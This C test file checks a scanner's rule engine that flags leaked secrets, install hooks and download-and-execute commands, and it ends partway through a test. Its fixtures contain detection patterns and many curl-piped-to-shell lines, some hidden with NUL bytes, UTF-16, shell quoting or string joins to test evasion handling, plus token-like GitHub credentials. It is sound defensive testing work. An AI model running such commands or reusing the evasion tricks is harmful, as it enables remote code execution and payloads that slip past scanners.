/*
 * check_engine.c - the rule engine on buffers: match spans, line and column
 * (CRLF, UTF-8, very long lines, chunk boundaries), entropy and allow-lists,
 * keywords, path rules and globs, redaction, dedupe and fingerprints, binary
 * detection, the per-file finding cap, and the compiled-database cache.
 */
#include <fcntl.h>
#include <sys/stat.h>

#include "test_util.h"

#include "al_limits.h"
#include "util.h"

#define TOKEN "ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ"
#define TOKEN2 "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"

static const char rules[] =
    "rules:\n"
    "  - id: gh-pat\n"
    "    title: GitHub token\n"
    "    category: secret\n"
    "    severity: critical\n"
    "    pattern: '\\b(ghp_[A-Za-z0-9]{36})\\b'\n"
    "    secret: 1\n"
    "    entropy: 3.0\n"
    "    allow: {stopwords: [xxxxxxxx], regexes: ['^ghp_0+$']}\n"
    "    description: D\n"
    "  - id: generic\n"
    "    title: Generic secret\n"
    "    category: secret\n"
    "    severity: medium\n"
    "    keywords: [secret]\n"
    "    pattern: '(?i)secret\\w*\\s*[:=]\\s*\"?([A-Za-z0-9+/]{20,})'\n"
    "    secret: 1\n"
    "    entropy: 3.5\n"
    "    description: D\n"
    "  - id: curl-sh\n"
    "    title: curl to shell\n"
    "    category: download-exec\n"
    "    severity: critical\n"
    "    pattern: 'curl\\s[^|\\n]*\\|\\s*(ba)?sh\\b'\n"
    "    description: D\n"
    "  - id: popen\n"
    "    title: a program started\n"
    "    category: download-exec\n"
    "    severity: high\n"
    "    pattern: '\\bsubprocess\\.Popen\\('\n"
    "    description: D\n"
    "  - id: workflow\n"
    "    title: Workflow\n"
    "    category: install-hook\n"
    "    severity: medium\n"
    "    paths: ['.github/workflows/*.yml']\n"
    "    exclude_paths: ['vendor/**']\n"
    "    description: D\n"
    "  - id: postinstall\n"
    "    title: npm postinstall\n"
    "    category: install-hook\n"
    "    severity: medium\n"
    "    paths: [package.json]\n"
    "    pattern: '\"postinstall\"\\s*:'\n"
    "    description: D\n"
    "  - id: eof-marker\n"
    "    title: marker at end of line\n"
    "    category: obfuscation\n"
    "    severity: low\n"
    "    pattern: '^END-OF-THINGS$'\n"
    "    description: D\n"
    "  - id: short-anchored\n"
    "    title: no factor, so Hyperscan runs the pattern itself\n"
    "    category: obfuscation\n"
    "    severity: low\n"
    "    pattern: '^(?:zq|qz)[0-9]{6}$'\n"
    "    description: D\n";

static struct tu_scanner sc;

static void
setup(void)
{
	tu_scanner_init(&sc, rules);
}

static void
teardown(void)
{
	tu_scanner_free(&sc);
}

static void
scan_str(const char *path, const char *s, struct finding_list *out)
{
	tu_scan(&sc, path, s, strlen(s), out);
}

START_TEST(line_and_column)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.py", "one\ntwo\n  x = \"" TOKEN "\"\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	f = tu_first(&fl, "gh-pat");
	ck_assert_uint_eq(f->line, 3);
	ck_assert_uint_eq(f->column, 8);
	ck_assert_str_eq(f->path, "a.py");
	finding_list_free(&fl);
}
END_TEST

START_TEST(crlf_lines)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.txt", "one\r\ntwo\r\n\r\ncurl -s x | sh\r\n", &fl);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 4);
	ck_assert_uint_eq(f->column, 1);
	/* The excerpt carries no carriage return. */
	ck_assert_str_eq(f->excerpt, "curl -s x | sh");
	finding_list_free(&fl);
}
END_TEST

START_TEST(column_counts_code_points)
{
	struct finding_list fl;
	const struct finding *f;

	/* "é" is 2 bytes, "😀" 4: the token starts at code point 7. */
	scan_str("a.txt", "\xc3\xa9\xf0\x9f\x98\x80 x= " TOKEN "\n", &fl);
	f = tu_first(&fl, "gh-pat");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->column, 7);
	finding_list_free(&fl);
	/* A stray continuation byte (after ASCII) is one character, as the
	 * U+FFFD that JSON shows for it. */
	scan_str("a.txt", "\xe2\x28\xa1 " TOKEN "\n", &fl);
	f = tu_first(&fl, "gh-pat");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->column, 5);
	finding_list_free(&fl);
}
END_TEST

START_TEST(very_long_line)
{
	/* A 3 MiB line (three chunks) with a token near its end. */
	size_t n = 3u << 20, at = n - 100;
	char *buf = malloc(n + 1);
	struct finding_list fl;
	const struct finding *f;

	ck_assert_ptr_nonnull(buf);
	memset(buf, 'a', n);
	buf[n] = '\0';
	buf[at - 1] = ' ';
	memcpy(buf + at, TOKEN, strlen(TOKEN));
	buf[at + strlen(TOKEN)] = ' ';
	tu_scan(&sc, "long.txt", buf, n, &fl);
	f = tu_first(&fl, "gh-pat");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 1);
	ck_assert_uint_eq(f->column, at + 1);
	ck_assert_uint_le(strlen(f->excerpt), AL_EXCERPT_BYTES + 16);
	ck_assert_ptr_nonnull(strstr(f->excerpt, "..."));
	finding_list_free(&fl);
	free(buf);
}
END_TEST

START_TEST(token_across_chunk_boundary)
{
	/*
	 * The engine reads a first chunk of AL_SCAN_CHUNK plus the kept window
	 * (2 * AL_SCAN_WINDOW), then AL_SCAN_CHUNK at a time: tokens straddle
	 * each of those boundaries (and the plain 1 MiB mark), starting 10
	 * bytes before it.
	 */
	size_t keep = 2 * AL_SCAN_WINDOW, n = 3 * AL_SCAN_CHUNK + keep + 1000;
	size_t at[3] = {AL_SCAN_CHUNK - 10, AL_SCAN_CHUNK + keep - 10,
	    2 * AL_SCAN_CHUNK + keep - 10};
	size_t want_line[3] = {0, 0, 0}, want_col[3], i, k;
	char *buf = malloc(n);
	struct finding_list fl;

	ck_assert_ptr_nonnull(buf);
	for (i = 0; i < n; i++)
		buf[i] = (i % 64 == 63) ? '\n' : 'b';
	for (k = 0; k < 3; k++) {
		buf[at[k] - 1] = ' ';
		memcpy(buf + at[k], TOKEN, strlen(TOKEN));
		buf[at[k] + strlen(TOKEN)] = '\n';
	}
	for (k = 0; k < 3; k++) {
		for (i = 0; i < at[k]; i++)
			if (buf[i] == '\n') {
				want_line[k]++;
				want_col[k] = at[k] - i;
			}
	}
	tu_scan(&sc, "big.txt", buf, n, &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 3);
	for (k = 0; k < 3; k++) {
		ck_assert_uint_eq(fl.v[k].line, want_line[k] + 1);
		ck_assert_uint_eq(fl.v[k].column, want_col[k]);
	}
	finding_list_free(&fl);
	free(buf);
}
END_TEST

START_TEST(many_chunks_line_numbers)
{
	/* 40,000 lines of 100 bytes (4 MB), tokens on lines 7 and 39,999. */
	size_t nl = 40000, ll = 100, i;
	char *buf = malloc(nl * ll);
	struct finding_list fl;

	ck_assert_ptr_nonnull(buf);
	for (i = 0; i < nl; i++) {
		memset(buf + i * ll, 'z', ll - 1);
		buf[i * ll + ll - 1] = '\n';
	}
	memcpy(buf + 6 * ll + 3, " " TOKEN " ", strlen(TOKEN) + 2);
	memcpy(buf + 39998 * ll + 50, " " TOKEN2 " ", strlen(TOKEN2) + 2);
	tu_scan(&sc, "lines.txt", buf, nl * ll, &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 2);
	ck_assert_uint_eq(fl.v[0].line, 7);
	ck_assert_uint_eq(fl.v[0].column, 5);
	ck_assert_uint_eq(fl.v[1].line, 39999);
	ck_assert_uint_eq(fl.v[1].column, 52);
	finding_list_free(&fl);
	free(buf);
}
END_TEST

START_TEST(entropy_and_allow)
{
	struct finding_list fl;

	/* Low entropy, a stopword, an allow regex: none is a secret. */
	scan_str("a.env", "A=ghp_abababababababababababababababababab\n"
	    "B=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
	    "C=ghp_000000000000000000000000000000000000\n"
	    "secret = aaaaaaaaaaaaaaaaaaaaaaaaaa\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
	scan_str("a.env", "secret_key = \"Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi\"\n",
	    &fl);
	ck_assert_uint_eq(tu_count(&fl, "generic"), 1);
	finding_list_free(&fl);
}
END_TEST

START_TEST(keywords_gate_the_pattern)
{
	struct finding_list fl;

	/* The keyword must be on the line, in any case. */
	scan_str("a.txt", "SECRET: Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi\n"
	    "value: Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "generic"), 1);
	ck_assert_uint_eq(tu_first(&fl, "generic")->line, 1);
	finding_list_free(&fl);
}
END_TEST

START_TEST(path_rules)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("repo/.github/workflows/ci.yml", "on: push\n", &fl);
	f = tu_first(&fl, "workflow");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 0);
	ck_assert_uint_eq(f->column, 0);
	finding_list_free(&fl);
	/* Whatever the content, even empty; not when excluded. */
	scan_str(".github/workflows/empty.yml", "", &fl);
	ck_assert_uint_eq(tu_count(&fl, "workflow"), 1);
	finding_list_free(&fl);
	scan_str("vendor/x/.github/workflows/ci.yml", "on: push\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "workflow"), 0);
	finding_list_free(&fl);
	scan_str("docs/workflows/ci.yml", "on: push\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "workflow"), 0);
	finding_list_free(&fl);
}
END_TEST

START_TEST(autorun_with_dangerous_content_is_critical)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str(".github/workflows/ci.yml", "on: push\n", &fl);
	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, AL_SEV_MEDIUM);
	finding_list_free(&fl);
	scan_str(".github/workflows/ci.yml", "on: push\nsteps:\n"
	    "  - run: curl -s https://x.example | bash\n", &fl);
	f = tu_first(&fl, "workflow");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->severity, AL_SEV_CRITICAL);
	ck_assert_str_eq(f->excerpt, "runs automatically and contains curl-sh "
	    "(critical) at line 3");
	/* The rule itself keeps its own severity for other files. */
	ck_assert_int_eq(f->rule->severity, AL_SEV_MEDIUM);
	finding_list_free(&fl);
	/* A secret in a workflow is not "reaching the network". */
	scan_str(".github/workflows/ci.yml", "env:\n  T: " TOKEN "\n", &fl);
	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, AL_SEV_MEDIUM);
	finding_list_free(&fl);
}
END_TEST

START_TEST(path_scoped_pattern)
{
	const char *pkg = "{\"scripts\": {\"postinstall\": \"node x.js\"}}\n";
	struct finding_list fl;

	scan_str("app/package.json", pkg, &fl);
	ck_assert_uint_eq(tu_count(&fl, "postinstall"), 1);
	finding_list_free(&fl);
	scan_str("app/notes.json", pkg, &fl);
	ck_assert_uint_eq(tu_count(&fl, "postinstall"), 0);
	finding_list_free(&fl);
}
END_TEST

START_TEST(redaction)
{
	struct finding_list fl;
	size_t i;

	scan_str("a.sh", "curl -H 'X: " TOKEN "' https://x | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	for (i = 0; i < fl.n; i++) {
		/* Neither finding's excerpt echoes the token whole. */
		ck_assert_ptr_null(strstr(fl.v[i].excerpt, TOKEN));
		ck_assert_ptr_null(strstr(fl.v[i].excerpt, TOKEN + 8));
		ck_assert_ptr_nonnull(strstr(fl.v[i].excerpt, "ghp_*****"));
	}
	finding_list_free(&fl);
}
END_TEST

START_TEST(redaction_of_deduped_secrets)
{
	struct finding_list fl;

	/* Two secrets of one rule on one line: one finding, both masked. */
	scan_str("a.py", "secret_a = \"Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi\"; "
	    "secret_b = \"TGw8u4sInR2qclRkvIKNhVQ2sB8SKFmTD7s\"\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "generic"), 1);
	ck_assert_ptr_null(strstr(fl.v[0].excerpt, "TGw8u4sInR2qclRk"));
	ck_assert_ptr_null(strstr(fl.v[0].excerpt, "Zm9vYmFyYmF6"));
	finding_list_free(&fl);
	scan_str("a.txt", "x " TOKEN " y " TOKEN2 "\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	ck_assert_ptr_null(strstr(fl.v[0].excerpt, TOKEN2 + 4));
	ck_assert_ptr_null(strstr(fl.v[0].excerpt, TOKEN + 4));
	finding_list_free(&fl);
}
END_TEST

START_TEST(dedupe_per_line)
{
	struct finding_list fl;

	scan_str("a.txt", TOKEN " " TOKEN2 "\n" TOKEN "\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 2);
	ck_assert_uint_eq(fl.v[0].line, 1);
	ck_assert_uint_eq(fl.v[0].column, 1);
	ck_assert_uint_eq(fl.v[1].line, 2);
	/* Same bytes twice: distinct fingerprints (the occurrence counts). */
	ck_assert_str_ne(fl.v[0].fingerprint, fl.v[1].fingerprint);
	finding_list_free(&fl);
}
END_TEST

START_TEST(fingerprint_stable)
{
	struct finding_list a, b, c;

	scan_str("a.txt", "x\n" TOKEN "\n", &a);
	scan_str("a.txt", "new line\nanother\nx\n" TOKEN "\n", &b);
	scan_str("b.txt", "x\n" TOKEN "\n", &c);
	ck_assert_uint_eq(a.n, 1);
	ck_assert_uint_eq(b.n, 1);
	ck_assert_uint_eq(c.n, 1);
	ck_assert_uint_ne(a.v[0].line, b.v[0].line);
	ck_assert_str_eq(a.v[0].fingerprint, b.v[0].fingerprint);
	ck_assert_str_ne(a.v[0].fingerprint, c.v[0].fingerprint);
	ck_assert_uint_eq(strlen(a.v[0].fingerprint), 32);
	finding_list_free(&a);
	finding_list_free(&b);
	finding_list_free(&c);
}
END_TEST

START_TEST(binary_files)
{
	static const char bin[] = "\x7f" "ELF\0\0\0 " TOKEN "\n";
	struct finding_list fl;

	/* Not read as text, but its strings are: the secret is found, for
	 * the whole file, at the string's offset (the space before it is
	 * part of the string). */
	tu_scan(&sc, "tool", bin, sizeof(bin) - 1, &fl);
	ck_assert_uint_eq(fl.n, 1);
	ck_assert_str_eq(fl.v[0].rule->id, "gh-pat");
	ck_assert_uint_eq(fl.v[0].line, 0);
	ck_assert_uint_eq(fl.v[0].column, 0);
	ck_assert_int_eq(fl.v[0].severity, AL_SEV_CRITICAL);
	ck_assert_str_eq(fl.v[0].excerpt,
	    "string at byte 7 of a binary file:  ghp_*****");
	ck_assert_uint_eq(strlen(fl.v[0].fingerprint), 32);
	finding_list_free(&fl);
	/* In compiled code, one severity lower. */
	tu_scan(&sc, "lib/tool.so", bin, sizeof(bin) - 1, &fl);
	ck_assert_uint_eq(fl.n, 1);
	ck_assert_int_eq(fl.v[0].severity, AL_SEV_HIGH);
	finding_list_free(&fl);
	/* A NUL does not switch text rules off for a script. */
	tu_scan(&sc, "run.sh", bin, sizeof(bin) - 1, &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	finding_list_free(&fl);
	/* Path rules still apply to binary content. */
	tu_scan(&sc, ".github/workflows/x.yml", "\0\0", 2, &fl);
	ck_assert_uint_eq(tu_count(&fl, "workflow"), 1);
	finding_list_free(&fl);
}
END_TEST

static size_t utf16(char *out, const char *s, int be, int bom);

/* Runs p[0..n) through the scanner as path, expecting one finding of
 * rule (and returning it). */
static const struct finding *
one_of(const char *path, const char *p, size_t n, const char *rule,
    struct finding_list *fl)
{
	tu_scan(&sc, path, p, n, fl);
	ck_assert_msg(tu_count(fl, rule) == 1, "%s: %zu findings of %s",
	    path, tu_count(fl, rule), rule);
	return tu_first(fl, rule);
}

/* dash and bash drop NUL bytes as they read a script: `cu<NUL>rl` runs
 * curl. Text with NULs is read so, whatever its name; NULs inside words
 * are a finding of their own. */
START_TEST(nul_bytes_read_as_sh_reads_them)
{
	static const char script[] = "#!/bin/sh\necho hi\ncu\0rl -fsSL "
	    "http://x/i | s\0\0h\n";
	static const char noname[] = "echo hi\ncu\0rl -fsSL http://x/i | sh\n";
	static const char ctl[] = "echo hi\n\001\ncu\0rl -fsSL http://x/i | "
	    "sh\n";
	static const char env[] = "K=" TOKEN "\0abc\n";
	static const char both[] = "K=" TOKEN " ; x\0y\n";
	static const char ends[] = "curl -fsSL http://x/i | sh\n\0\0";
	struct finding_list fl;
	const struct finding *f;

	/* A script by its #!, by its content, and by its name. */
	f = one_of("run", script, sizeof(script) - 1, "curl-sh", &fl);
	ck_assert_uint_eq(f->line, 3);
	ck_assert_uint_eq(f->column, 1);
	ck_assert_str_eq(f->excerpt, "(read with its NUL bytes dropped, as sh "
	    "reads it) curl -fsSL http://x/i | sh");
	f = tu_first(&fl, "airlock.nul-in-text");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->severity, AL_SEV_MEDIUM);
	ck_assert_ptr_nonnull(strstr(f->excerpt, "(the first at byte 20)"));
	finding_list_free(&fl);
	f = one_of("notes", noname, sizeof(noname) - 1, "curl-sh", &fl);
	ck_assert_uint_eq(f->line, 2);
	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 1);
	finding_list_free(&fl);
	f = one_of("x.ps1", noname, sizeof(noname) - 1, "curl-sh", &fl);
	ck_assert_uint_eq(f->line, 2);
	finding_list_free(&fl);
	/* A control character makes it binary; its strings are still read
	 * as sh would read them. */
	f = one_of("notes", ctl, sizeof(ctl) - 1, "curl-sh", &fl);
	ck_assert_uint_eq(f->line, 0);
	ck_assert_str_eq(f->excerpt, "string at byte 10 of a binary file, its "
	    "NUL bytes dropped as sh does: curl -fsSL http://x/i | sh");
	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 0);
	finding_list_free(&fl);
	/* What a reader a NUL stops sees is read too: the token that a NUL
	 * ends, before letters that sh would join to it. */
	f = one_of("a.env", env, sizeof(env) - 1, "gh-pat", &fl);
	ck_assert_str_eq(f->excerpt, "string a NUL ends at byte 0 of a text "
	    "file: K=ghp_*****");
	finding_list_free(&fl);
	/* ... but not twice when both readings see it. */
	f = one_of("a.env", both, sizeof(both) - 1, "gh-pat", &fl);
	ck_assert_uint_eq(f->line, 1);
	finding_list_free(&fl);
	/* NULs after the first bytes, in the first chunk read and in a
	 * later one: dropped as well. */
	{
		static const char tail[] = "cu\0rl -fsSL http://x/i | s\0h\n";
		/* Lines of 80 bytes; past the 8,000-byte sniff, and past the
		 * first read (KEEP + AL_SCAN_CHUNK, about 1 MiB). */
		size_t at[] = {113 * 80, 39322 * 80}, i, n;
		char *big = malloc(at[1] + sizeof(tail));

		ck_assert_ptr_nonnull(big);
		for (i = 0; i < 2; i++) {
			memset(big, 'a', at[i]);
			for (n = 79; n < at[i]; n += 80)
				big[n] = '\n';
			memcpy(big + at[i], tail, sizeof(tail) - 1);
			n = at[i] + sizeof(tail) - 1;
			f = one_of("long.txt", big, n, "curl-sh", &fl);
			ck_assert_uint_eq(f->line, at[i] / 80 + 1);
			ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 1);
			finding_list_free(&fl);
		}
		free(big);
	}
	/* NULs only between lines hide nothing: no finding, no note. */
	f = one_of("x.sh", ends, sizeof(ends) - 1, "curl-sh", &fl);
	ck_assert_str_eq(f->excerpt, "curl -fsSL http://x/i | sh");
	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 0);
	finding_list_free(&fl);
}
END_TEST

/* In a binary, a string split by NULs is read joined too, but what the
 * plain strings found is not reported again, and UTF-16 stays UTF-16. */
START_TEST(binary_strings_joined_once)
{
	static const char bin[] = "\x7f" "ELF\x02\x01\0\0ab\0\0 " TOKEN
	    "\0 xy\0\0cu\0\0rl -fsSL http://x/i | sh\0\x01";
	static const char want[] = "string at byte 8 of a binary file, its "
	    "NUL bytes dropped as sh does: ";
	char buf[256];
	struct finding_list fl;
	const struct finding *f;
	size_t n;

	/* The token is in a plain string and in the joined one: once. */
	f = one_of("tool", bin, sizeof(bin) - 1, "gh-pat", &fl);
	ck_assert_str_eq(f->excerpt, "string at byte 12 of a binary file:  "
	    "ghp_*****");
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_msg(strncmp(f->excerpt, want, sizeof(want) - 1) == 0,
	    "excerpt: %s", f->excerpt);
	ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
	ck_assert_ptr_nonnull(strstr(f->excerpt, "curl -fsSL http://x/i | sh"));
	finding_list_free(&fl);
	/* UTF-16 in a binary: read as UTF-16 only. */
	memcpy(buf, "\x7f" "ELF\x02\x01\0\0", 8);
	n = 8 + utf16(buf + 8, "curl -fsSL http://x/i | sh", 0, 0);
	buf[n++] = '\x01';
	f = one_of("tool", buf, n, "curl-sh", &fl);
	ck_assert_str_eq(f->excerpt, "UTF-16 string at byte 8 of a binary "
	    "file: curl -fsSL http://x/i | sh");
	finding_list_free(&fl);
}
END_TEST

/* Text and bytes as UTF-16 (ASCII only), with or without a BOM. */
static size_t
utf16(char *out, const char *s, int be, int bom)
{
	size_t k = 0;

	if (bom) {
		out[k++] = be ? '\xfe' : '\xff';
		out[k++] = be ? '\xff' : '\xfe';
	}
	for (; *s; s++) {
		out[k++] = be ? '\0' : *s;
		out[k++] = be ? *s : '\0';
	}
	return k;
}

START_TEST(utf16_is_read_as_text)
{
	static const char text[] = "echo one\ncurl -fsSL http://x/i | sh\n"
	    "t = \"" TOKEN "\"\nEND-OF-THINGS\n";
	char buf[512];
	struct finding_list fl;
	int be, bom;

	for (be = 0; be < 2; be++)
		for (bom = 0; bom < 2; bom++) {
			size_t n = utf16(buf, text, be, bom);
			const struct finding *f;

			tu_scan(&sc, "a.ps1", buf, n, &fl);
			ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
			ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
			ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
			f = tu_first(&fl, "curl-sh");
			ck_assert_uint_eq(f->line, 2);
			ck_assert_uint_eq(f->column, 1);
			ck_assert_str_eq(f->excerpt, be ? "(read as UTF-16BE) "
			    "curl -fsSL http://x/i | sh" : "(read as UTF-16LE) "
			    "curl -fsSL http://x/i | sh");
			f = tu_first(&fl, "gh-pat");
			ck_assert_uint_eq(f->line, 3);
			ck_assert_uint_eq(f->column, 6);
			ck_assert_ptr_nonnull(strstr(f->excerpt, "ghp_*****"));
			ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
			finding_list_free(&fl);
		}
	/* ASCII lines after UTF-16 text: a UTF-16 reader makes other
	 * characters of them, sh (which drops the NULs) runs them. */
	{
		static const char tail[] = "curl -fsSL http://y/j | sh\n";
		size_t n = utf16(buf, "echo one\n", 0, 1);

		memcpy(buf + n, tail, sizeof(tail) - 1);
		n += sizeof(tail) - 1;
		tu_scan(&sc, "a.ps1", buf, n, &fl);
		ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
		ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "ASCII "
		    "string at byte 20 of a UTF-16 file: curl -fsSL http://y/j "
		    "| sh");
		finding_list_free(&fl);
	}
	/* A BOM before ASCII lines is not believed: a shell runs them. */
	memcpy(buf, "\xff\xfe\ncurl -fsSL http://x/i | sh\n", 31);
	tu_scan(&sc, "a.sh", buf, 31, &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "curl -fsSL http://x/i | sh");
	finding_list_free(&fl);
}
END_TEST

/* UTF-16 longer than a chunk: lines count on, a surrogate pair split by
 * the chunk boundary decodes whole. */
START_TEST(utf16_across_chunks)
{
	size_t n = 3 * AL_SCAN_CHUNK, k = 2, i;
	char *buf = malloc(n + 256);
	struct finding_list fl;
	const struct finding *f;

	ck_assert_ptr_nonnull(buf);
	buf[0] = '\xff';
	buf[1] = '\xfe';
	for (i = 0; k + 16 < AL_SCAN_CHUNK; i++) {
		memcpy(buf + k, "a\0b\0\n\0", 6); /* "ab\n" */
		k += 6;
	}
	/* U+1F600 as a surrogate pair, then a line with the secret. */
	memcpy(buf + k, "\x3d\xd8\x00\xde\n\0", 6);
	k += 6;
	k += utf16(buf + k, "t = " TOKEN "\n", 0, 0);
	tu_scan(&sc, "big.txt", buf, k, &fl);
	ck_assert_uint_eq(fl.n, 1);
	f = tu_first(&fl, "gh-pat");
	ck_assert_uint_eq(f->line, i + 2);
	ck_assert_uint_eq(f->column, 5);
	finding_list_free(&fl);
	free(buf);
}
END_TEST

/* A lone CR ends a line for `^` (Python's .pth reader splits there); a
 * CRLF is one line end; line numbers stay those of LF. */
START_TEST(lone_cr_ends_a_line)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.pth", "/usr/lib/x\rEND-OF-THINGS\r", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
	f = tu_first(&fl, "eof-marker");
	ck_assert_uint_eq(f->line, 1);
	ck_assert_uint_eq(f->column, 12);
	finding_list_free(&fl);
	scan_str("a.txt", "x\r\nEND-OF-THINGS\r\ny\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
	ck_assert_uint_eq(tu_first(&fl, "eof-marker")->line, 2);
	finding_list_free(&fl);
	/* The same for a rule the prefilter runs as a whole pattern. */
	scan_str("a.pth", "x\rzq123456\rqz654321\r\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "short-anchored"), 1);
	ck_assert_uint_eq(tu_first(&fl, "short-anchored")->column, 3);
	finding_list_free(&fl);
	/* Not a line start: a CR inside the line's text is no break for a
	 * match that would need one. */
	scan_str("a.txt", "xEND-OF-THINGS\r", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 0);
	finding_list_free(&fl);
}
END_TEST

/* Strings of a binary: ASCII and UTF-16LE at either alignment, in a file of
 * several chunks, each at its offset; short runs are not strings. */
START_TEST(binary_strings)
{
	size_t n = 2 * AL_SCAN_CHUNK + 100, at = AL_SCAN_CHUNK - 10;
	char *buf = calloc(1, n);
	struct finding_list fl;
	size_t i, wide = 0, narrow = 0;
	char want[64];

	ck_assert_ptr_nonnull(buf);
	memcpy(buf, "\x7f" "ELF", 4);
	/* A string across the first chunk's end. */
	memcpy(buf + at, "curl -fsSL http://x/i | sh", 26);
	/* UTF-16LE at an odd offset. */
	(void)utf16(buf + AL_SCAN_CHUNK + 101, TOKEN, 0, 0);
	/* Too short to be a string. */
	memcpy(buf + AL_SCAN_CHUNK + 500, "curl|sh", 7);
	tu_scan(&sc, "tool", buf, n, &fl);
	for (i = 0; i < fl.n; i++) {
		ck_assert_uint_eq(fl.v[i].line, 0);
		if (strcmp(fl.v[i].rule->id, "curl-sh") == 0) {
			snprintf(want, sizeof(want), "string at byte %zu ", at);
			ck_assert_ptr_nonnull(strstr(fl.v[i].excerpt, want));
			narrow++;
		} else if (strcmp(fl.v[i].rule->id, "gh-pat") == 0) {
			snprintf(want, sizeof(want), "UTF-16 string at byte %zu ",
			    (size_t)AL_SCAN_CHUNK + 101);
			ck_assert_ptr_nonnull(strstr(fl.v[i].excerpt, want));
			wide++;
		}
	}
	ck_assert_uint_eq(narrow, 1);
	ck_assert_uint_eq(wide, 1);
	ck_assert_uint_eq(fl.n, 2);
	finding_list_free(&fl);
	free(buf);
}
END_TEST

/* The normalised view: what literal tricks hide is found, at its line,
 * saying how; what the bytes show is reported once, as it is. */
START_TEST(normalised_view)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.py", "x = 1\ncmd = 'cu' + 'rl -s http://x/i | sh'\n", &fl);
	ck_assert_uint_eq(fl.n, 1);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 2);
	ck_assert_uint_eq(f->column, 1);
	ck_assert_str_eq(f->excerpt,
	    "via string join: cmd = 'curl -s http://x/i | sh'");
	ck_assert_uint_eq(strlen(f->fingerprint), 32);
	finding_list_free(&fl);
	scan_str("a.sh", "c''url -s http://x/i | b\"\"ash\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "via shell quoting: curl -s http://x/i | bash");
	finding_list_free(&fl);
	/* Adjacent literals (Python, C), joined without an operator. */
	scan_str("a.py", "cmd = 'cu' 'rl -s http://x/i | sh'\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	/* Every join the worker finds (qtrig_at): each operator, blanks or
	 * none, tabs, mixed quotes, at the text's start and end. */
	scan_str("a.js", "c = \"cu\"+'rl -s http://x/i | sh'\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.js", "c = 'cu'\t+\t'rl -s http://x/i | sh'\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.php", "$c = 'cu' . \"rl -s http://x/i | sh\";\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.lua", "c = 'cu'..'rl -s http://x/i | sh'\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.vbs", "c = \"cu\" & \"rl -s http://x/i | sh\"", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
